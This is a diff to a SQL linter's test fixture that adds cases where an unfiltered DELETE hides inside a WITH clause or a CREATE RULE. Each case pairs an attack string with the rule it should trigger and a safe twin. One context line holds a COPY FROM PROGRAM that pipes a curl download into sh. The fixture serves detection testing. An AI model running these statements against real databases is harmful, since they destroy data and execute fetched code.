@@ -162,6 +162,22 @@ const doors: Door[] = [
     at: "3:12",
     twin: "CREATE FUNCTION purge(t text) RETURNS void LANGUAGE plpgsql AS $$\nBEGIN\n  EXECUTE 'DELETE FROM ' || quote_ident(t) || ' WHERE expires_at < now()';\nEND $$;\n",
   },
+  // The AST walk for nested DML runs only when the text holds more DELETE/UPDATE/MERGE words (any
+  // case) than top-level DML statements: these two have exactly one more.
+  {
+    name: "DELETE (in mixed case) inside the WITH of an UPDATE",
+    attack: "WITH gone AS (dElEtE FROM orders RETURNING id)\nUPDATE audit SET seen = true WHERE order_id IN (SELECT id FROM gone);\n",
+    rule: "sql/delete-without-where",
+    at: "1:15",
+    twin: "WITH gone AS (dElEtE FROM orders WHERE id = 7 RETURNING id)\nUPDATE audit SET seen = true WHERE order_id IN (SELECT id FROM gone);\n",
+  },
+  {
+    name: "a rule's DELETE after a top-level UPDATE",
+    attack: "UPDATE orders SET status = 'void' WHERE id = 7;\nCREATE RULE purge AS ON INSERT TO log DO ALSO delete FROM orders;\n",
+    rule: "sql/delete-without-where",
+    at: "2:47",
+    twin: "UPDATE orders SET status = 'void' WHERE id = 7;\nCREATE RULE purge AS ON INSERT TO log DO ALSO delete FROM orders WHERE id = NEW.order_id;\n",
+  },
   {
     name: "COPY … FROM PROGRAM",
     attack: "COPY orders FROM PROGRAM 'curl -s https://example.com/o.csv | sh';\n",
